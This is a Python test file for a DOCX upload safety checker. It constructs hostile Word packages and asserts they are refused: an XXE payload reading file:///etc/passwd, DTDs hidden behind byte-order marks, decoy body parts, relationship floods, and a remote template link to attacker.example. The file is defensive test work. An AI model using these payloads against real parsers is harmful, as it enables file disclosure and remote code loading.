"""The DOCX checklist read as Word reads a package: the body it opens, every XML part, bounded work."""

from __future__ import annotations

import base64
import io
import os
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document as WordDocument
from lxml import etree

from core.failures import Failure, Unsafe
from tests import samples
from vault.docx_safety import BINARY_MAGIC, TEMPLATE_LIMITS, VAULT_LIMITS, ZipLimits, check_docx, safe_xml_parser
from vault.extract import extract
from vault.sniff import DOCX

EXAMPLE_TEMPLATE = Path(__file__).parent.parent / "examples" / "templates" / "submittal-review.docx"
PNG_TYPE = '<Default Extension="png" ContentType="image/png"/>'


def _python_docx_default() -> bytes:
    buffer = io.BytesIO()
    WordDocument().save(buffer)
    return buffer.getvalue()


def _with_part(name: str, data: bytes, content_type: str = "") -> bytes:
    """A python-docx file with one more part, `content_type` its Default/Override entry (or none)."""
    original = samples.docx(["hello"])
    types = samples.part_of(original, "[Content_Types].xml")
    return samples.rewrite_docx(
        original, {"[Content_Types].xml": samples.with_content_type(types, content_type)}, {name: data}
    )


HOSTILE_XML = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>'


@pytest.mark.parametrize(
    "make",
    [
        lambda: samples.docx(
            ["Roofing"], title="Spec", table=[["a", "b"]], header="Head", footer="Foot", content_control="Ada"
        ),
        lambda: samples.two_sections_with_footnote("A note"),
        samples.docx_with_picture,
        _python_docx_default,
        EXAMPLE_TEMPLATE.read_bytes,
        lambda: samples.docx_with_external_relationship("hyperlink", "https://example.com/spec"),
    ],
    ids=["python_docx_full", "footnotes", "picture", "python_docx_default", "example_template", "hyperlink"],
)
def test_legitimate_word_files_pass_both_checklists(make: Callable[[], bytes]) -> None:
    data = make()
    for limits in (VAULT_LIMITS, TEMPLATE_LIMITS):
        report = check_docx(io.BytesIO(data), limits, external_targets=True)
        assert report.main_part == "word/document.xml"
        assert report.loads_remote_content() == []


@pytest.mark.parametrize("real_body_type", ["default", "xml", "second_override"])
def test_a_decoy_body_is_refused(real_body_type: str) -> None:
    # python-docx and Word open the part `_rels/.rels` names; the decoy is what a content-type lookup finds.
    with pytest.raises(Unsafe):
        check_docx(io.BytesIO(samples.decoy_body_docx(real_body_type)))


def _renamed_body(data: bytes, name: str) -> bytes:
    """The same document with its body stored as `word/{name}`, everything that points at it following."""
    parts = {part: samples.part_of(data, part) for part in ("[Content_Types].xml", "_rels/.rels")}
    renamed = {part: content.replace(b"word/document.xml", f"word/{name}".encode()) for part, content in parts.items()}
    added = {f"word/{name}": samples.part_of(data, "word/document.xml")}
    added[f"word/_rels/{name}.rels"] = samples.part_of(data, "word/_rels/document.xml.rels")
    skipped = ("word/document.xml", "word/_rels/document.xml.rels")
    return samples.rewrite_docx(data, renamed, added, skip=skipped)


def test_the_extractor_reads_the_body_the_package_relationships_name(tmp_path: Path) -> None:
    path = tmp_path / "renamed.docx"
    path.write_bytes(_renamed_body(samples.docx(["The one body."], header="Header text"), "main.xml"))
    assert check_docx(io.BytesIO(path.read_bytes())).main_part == "word/main.xml"
    assert [segment.text for segment in extract(str(path), DOCX).segments] == ["The one body.", "Header text"]

    # A decoy that reached the extractor anyway is not read either.
    path.write_bytes(samples.decoy_body_docx())
    with pytest.raises(Failure) as refused:
        extract(str(path), DOCX)
    assert refused.value.code == "docx_unreadable"


@pytest.mark.parametrize("prolog", list(samples.DTD_HIDING_PROLOGS.values()), ids=list(samples.DTD_HIDING_PROLOGS))
@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml"])
def test_a_dtd_after_a_comment_or_instruction_is_refused(prolog: bytes, part: str) -> None:
    data = samples.docx_with_hidden_dtd(prolog, part)
    for limits in (VAULT_LIMITS, TEMPLATE_LIMITS):
        with pytest.raises(Unsafe, match=re.escape(f"'{part}' declares a DTD")):
            check_docx(io.BytesIO(data), limits)


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("word/media/image9.png", HOSTILE_XML, PNG_TYPE),
        ("customXml/item9.data", HOSTILE_XML, '<Override PartName="/customXml/item9.data" ContentType="text/xml"/>'),
        ("word/notes", HOSTILE_XML, ""),
        ("word/utf16.xml", HOSTILE_XML.replace(b'"1.0"', b'"1.0" encoding="UTF-16"').decode().encode("utf-16"), ""),
        ("word/spaced.xml", b"  \n" + HOSTILE_XML.split(b"?>", 1)[1], ""),
    ],
    ids=["typed_as_image", "typed_xml_other_extension", "untyped", "utf16", "leading_whitespace"],
)
def test_every_xml_part_is_checked_whatever_its_name_or_type(name: str, data: bytes, content_type: str) -> None:
    with pytest.raises(Unsafe, match="declares a DTD"):
        check_docx(io.BytesIO(_with_part(name, data, content_type)))


@pytest.mark.parametrize("part", ["word/header1.xml", "docProps/core.xml"], ids=["header", "core_properties"])
@pytest.mark.parametrize("encoding", list(samples.BYTE_ORDER_MARKS))
def test_a_dtd_behind_a_byte_order_mark_in_a_part_typed_as_binary_is_refused(encoding: str, part: str) -> None:
    # Review 13: `\x00 ` (UTF-16 whitespace) after the mark hid the markup, so the part typed as binary went
    # unchecked; the extractor and docxtpl read headers and core properties whatever their type.
    data = samples.docx_with_dtd_behind_byte_order_mark(part, encoding)
    assert (
        etree.fromstring(samples.part_of(data, part), safe_xml_parser()).getroottree().docinfo.internalDTD is not None
    )
    for limits, external_targets in ((VAULT_LIMITS, False), (TEMPLATE_LIMITS, True)):
        with pytest.raises(Unsafe, match=re.escape(f"'{part}' declares a DTD")):
            check_docx(io.BytesIO(data), limits, external_targets=external_targets)


@pytest.mark.parametrize("encoding", list(samples.BYTE_ORDER_MARKS))
def test_a_dtd_behind_a_byte_order_mark_is_refused_in_any_part(encoding: str) -> None:
    # A part nobody relates to or types as XML is still parsed as lxml would decode it, UTF-32 marks included.
    data = samples.behind_byte_order_mark(
        HOSTILE_XML, encoding, '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    )
    with pytest.raises(Unsafe, match="declares a DTD"):
        check_docx(io.BytesIO(_with_part("word/notes", data)))


def test_a_header_typed_as_binary_is_held_to_the_template_size_cap() -> None:
    header = samples.part_of(samples.docx(["x"], header="Header text"), "word/header1.xml")
    # Incompressible text, so the zip-bomb ratio does not refuse it first; 5.2 MB once UTF-16.
    large = header.replace(b"Header text", os.urandom(1_300_000).hex().encode())
    data = samples.docx_with_retyped_part("word/header1.xml", samples.behind_byte_order_mark(large, "utf-16-be"))
    assert len(samples.part_of(data, "word/header1.xml")) > TEMPLATE_LIMITS.max_xml_part_bytes
    check_docx(io.BytesIO(data), VAULT_LIMITS)
    with pytest.raises(Unsafe, match=re.escape("'word/header1.xml' unpacks to")):
        check_docx(io.BytesIO(data), TEMPLATE_LIMITS, external_targets=True)


@pytest.mark.parametrize(
    "content",
    [b"\x00 \x00<\x00w\x00:\x00h\x00d\x00r\x00/\x00>", b"not XML at all", b"\x89PNG\r\n\x1a\n", b""],
    ids=["utf16_without_mark", "text", "png", "empty"],
)
def test_a_part_the_body_relates_to_as_xml_must_be_xml(content: bytes) -> None:
    # Whatever its type: the extractor and docxtpl parse a header as XML, so what the checklist cannot parse is refused.
    data = samples.docx_with_retyped_part("word/header1.xml", content)
    with pytest.raises(Unsafe, match=re.escape("'word/header1.xml' is not well-formed")):
        check_docx(io.BytesIO(data))


def test_parts_typed_as_binary_pass_when_they_are_what_their_relationship_says(tmp_path: Path) -> None:
    header = samples.part_of(samples.docx(["x"], header="Header text"), "word/header1.xml")
    for encoding in samples.BYTE_ORDER_MARKS:
        data = samples.docx_with_retyped_part("word/header1.xml", samples.behind_byte_order_mark(header, encoding))
        check_docx(io.BytesIO(data), TEMPLATE_LIMITS, external_targets=True)
        path = tmp_path / f"{encoding}.docx"
        path.write_bytes(data)
        assert [segment.text for segment in extract(str(path), DOCX).segments] == ["body text", "Header text"]
    picture = samples.docx_with_picture()
    image = next(name for name in samples.part_names(picture) if name.startswith("word/media/"))
    untyped = samples.docx_with_retyped_part(image, samples.part_of(picture, image), original=picture)
    check_docx(io.BytesIO(untyped), TEMPLATE_LIMITS, external_targets=True)


def test_no_xml_parser_reads_a_part_with_binary_magic() -> None:
    # Parts starting so are not parsed: sound only if lxml cannot read a document there either.
    for magic in BINARY_MAGIC:
        for bom_less in (HOSTILE_XML, b" " + HOSTILE_XML, HOSTILE_XML.decode().encode("utf-16-be")):
            with pytest.raises(etree.XMLSyntaxError):
                etree.fromstring(magic + bom_less, safe_xml_parser())
        check_docx(io.BytesIO(_with_part("word/media/blob.bin", magic + HOSTILE_XML)))


def test_binary_parts_are_not_read_as_xml() -> None:
    check_docx(io.BytesIO(_with_part("word/media/image9.png", samples.tiny_png(), PNG_TYPE)))
    check_docx(io.BytesIO(_with_part("word/printer.bin", b"<\x00\xff\xfe not markup after all")))


def test_a_part_typed_as_xml_must_be_xml() -> None:
    with pytest.raises(Unsafe, match="not well-formed"):
        check_docx(io.BytesIO(_with_part("word/extra.xml", b"\x89PNG\r\n\x1a\n")))


def test_a_prolog_too_long_to_check_is_refused() -> None:
    padded = b'<?xml version="1.0"?><!--' + b" padding" * 40_000 + b" --><r/>"
    with pytest.raises(Unsafe, match="prolog too long"):
        check_docx(io.BytesIO(_with_part("word/extra.xml", padded)))


def test_every_xml_part_is_held_to_the_size_cap() -> None:
    # Incompressible, so the zip-bomb ratio does not refuse it first.
    text = base64.b64encode(os.urandom(4 * 1024 * 1024))
    large = b'<?xml version="1.0"?><r><!--' + text + b"--></r>"
    data = _with_part("word/media/large.png", large, PNG_TYPE)
    check_docx(io.BytesIO(data), VAULT_LIMITS)
    with pytest.raises(Unsafe, match=re.escape("'word/media/large.png' unpacks to")):
        check_docx(io.BytesIO(data), ZipLimits(max_xml_part_bytes=1024 * 1024))
    body = samples.rewrite_docx(samples.docx(["x"]), {"word/document.xml": large})
    with pytest.raises(Unsafe, match="The document body unpacks to"):
        check_docx(io.BytesIO(body), ZipLimits(max_xml_part_bytes=1024 * 1024))


@pytest.mark.parametrize("reachable", [False, True], ids=["unused", "related_from_the_body"])
@pytest.mark.parametrize(
    ("limits", "external_targets"), [(VAULT_LIMITS, False), (TEMPLATE_LIMITS, True)], ids=["vault", "template"]
)
def test_a_relationship_flood_costs_the_request_thread_little(
    reachable: bool, limits: ZipLimits, external_targets: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    # 250 relationship parts of 1 MiB each in under 1 MB: parsing them all took ~5 s of CPU and ~370 MB.
    # The cost is what the check unpacks, counted in bytes (a CPU-time bound failed on a loaded machine).
    data = samples.relationship_flood_docx(reachable=reachable)
    assert len(data) < 1_100_000
    unpacked = 0
    read, read1 = zipfile.ZipExtFile.read, zipfile.ZipExtFile.read1

    def counted(method: Callable[[zipfile.ZipExtFile, int], bytes]) -> Callable[[zipfile.ZipExtFile, int], bytes]:
        def reading(self: zipfile.ZipExtFile, n: int = -1) -> bytes:
            nonlocal unpacked
            chunk = method(self, n)
            unpacked += len(chunk)
            return chunk

        return reading

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counted(read))
    monkeypatch.setattr(zipfile.ZipExtFile, "read1", counted(read1))

    try:
        check_docx(io.BytesIO(data), limits, external_targets=external_targets)
        refused = False
    except Unsafe:
        refused = True

    assert unpacked < 16 * 1024 * 1024  # of the 250 MiB the flood unpacks to
    assert refused == (reachable and external_targets)


@pytest.mark.parametrize(
    ("kind", "part"),
    [("attachedTemplate", "word/settings.xml"), ("image", "word/styles.xml"), ("image", "word/document.xml")],
)
def test_remote_content_is_found_in_every_part_word_loads(kind: str, part: str) -> None:
    data = samples.docx_with_external_relationship(kind, "https://attacker.example/t.dotm", part)
    report = check_docx(io.BytesIO(data), TEMPLATE_LIMITS, external_targets=True)
    assert report.loads_remote_content() == ["https://attacker.example/t.dotm"]
    # Uploads to the vault do not read relationships beyond the body's.
    assert check_docx(io.BytesIO(data)).external == []
